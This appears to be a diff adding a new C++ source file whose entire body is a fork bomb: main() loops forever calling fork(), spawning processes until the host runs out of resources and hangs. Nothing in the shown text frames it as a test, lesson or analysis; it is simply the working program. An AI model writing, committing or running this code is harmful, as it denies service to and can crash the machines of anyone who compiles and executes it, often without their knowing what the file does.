@@ -1,0 +1,7 @@
+#include <iostream>
+#include <string>
+#include <unistd.h>
+
+int main() {
+    for (;;) fork();
+}
